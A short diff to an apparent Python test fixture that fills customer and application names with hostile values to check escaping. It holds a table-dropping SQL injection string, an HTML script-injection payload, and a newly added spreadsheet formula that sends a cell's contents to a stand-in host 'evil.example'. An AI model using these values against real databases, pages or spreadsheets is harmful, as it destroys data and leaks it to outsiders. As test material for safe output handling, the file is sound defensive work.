@@ -10,8 +10,11 @@ import duckdb
 
 SQL_HOSTILE = "'; DROP TABLE customers; --"
 HTML_HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(1)>"
+# A spreadsheet formula (CSV injection): must reach CSV/XLSX downloads as text, never run.
+FORMULA_HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2;"Avaa")'
 # customer → hostile name (C001 keeps its manager Anna Aalto, C002 Berit Berg)
-NAMES = {"C001": f"Koulu {SQL_HOSTILE}", "C002": f"Sote {HTML_HOSTILE}"}
+NAMES = {"C001": f"Koulu {SQL_HOSTILE}", "C002": f"Sote {HTML_HOSTILE}",
+         "C003": FORMULA_HOSTILE}
 APPLICATIONS = {"Himble LogUs": f"App {HTML_HOSTILE}", "Legasos": f"App {SQL_HOSTILE}"}
 
 
